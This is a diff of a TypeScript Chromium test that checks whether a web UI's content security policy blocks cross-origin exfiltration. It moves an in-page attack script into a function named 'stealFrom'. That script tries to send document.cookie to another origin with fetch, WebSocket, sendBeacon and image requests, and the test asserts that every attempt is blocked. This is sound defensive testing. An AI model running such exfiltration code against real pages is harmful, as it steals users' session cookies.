@@ -15,6 +15,28 @@ import { launchChromium } from './chromium.js';
  * what it can read to another origin: the page's policy must stop every request before it
  * leaves the browser. The other origin is a real server that counts what reaches it.
  */
+/** The script, run in the page (the node-side tsconfig has no DOM types, so it is text): what it could reach, and the directives that stopped it. */
+const stealFrom = (target: string) => `(async () => {
+  const violations = [];
+  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+  const opens = (url) => new Promise((resolve) => {
+    const ws = new WebSocket(url);
+    ws.onopen = () => resolve(true);
+    ws.onerror = () => resolve(false);
+  });
+  const own = await opens('ws://' + location.host + '/ws');
+  const fetched = await fetch('http://${target}/fetch?c=' + document.cookie).then(() => true, () => false);
+  const foreignSocket = await opens('ws://${target}/ws');
+  navigator.sendBeacon('http://${target}/beacon', 'x');
+  await new Promise((resolve) => {
+    const image = new Image();
+    image.onload = image.onerror = () => resolve();
+    image.src = 'http://${target}/image';
+  });
+  await new Promise((resolve) => setTimeout(resolve, 200));
+  return { own, fetched, foreignSocket, violations: [...new Set(violations)].sort() };
+})()`;
+
 describe('web UI page under attack, in Chromium', () => {
   let browser: Browser;
   let server: WebServer;
@@ -47,7 +69,7 @@ describe('web UI page under attack, in Chromium', () => {
     const page = await browser.newPage();
     await page.goto(server.url);
     expect(page.url()).toBe(`http://127.0.0.1:${server.port}/`);
-    expect(await page.evaluate(() => location.href + document.referrer)).not.toContain(server.token);
+    expect(await page.evaluate('location.href + document.referrer')).not.toContain(server.token);
     await page.close();
   });
 
@@ -55,30 +77,7 @@ describe('web UI page under attack, in Chromium', () => {
     const page = await browser.newPage();
     await page.goto(server.url);
     const other = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
-    const outcome = await page.evaluate(async (target) => {
-      const violations: string[] = [];
-      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
-      const opens = (url: string) =>
-        new Promise<boolean>((resolve) => {
-          const ws = new WebSocket(url);
-          ws.onopen = () => resolve(true);
-          ws.onerror = () => resolve(false);
-        });
-      const own = await opens(`ws://${location.host}/ws`);
-      const fetched = await fetch(`http://${target}/fetch?c=${document.cookie}`).then(
-        () => true,
-        () => false,
-      );
-      const foreignSocket = await opens(`ws://${target}/ws`);
-      navigator.sendBeacon(`http://${target}/beacon`, 'x');
-      await new Promise<void>((resolve) => {
-        const image = new Image();
-        image.onload = image.onerror = () => resolve();
-        image.src = `http://${target}/image`;
-      });
-      await new Promise((resolve) => setTimeout(resolve, 200));
-      return { own, fetched, foreignSocket, violations: [...new Set(violations)].sort() };
-    }, other);
+    const outcome = await page.evaluate(stealFrom(other));
     expect(outcome).toEqual({ own: true, fetched: false, foreignSocket: false, violations: ['connect-src', 'img-src'] });
     expect(reached).toEqual([]);
     await page.close();
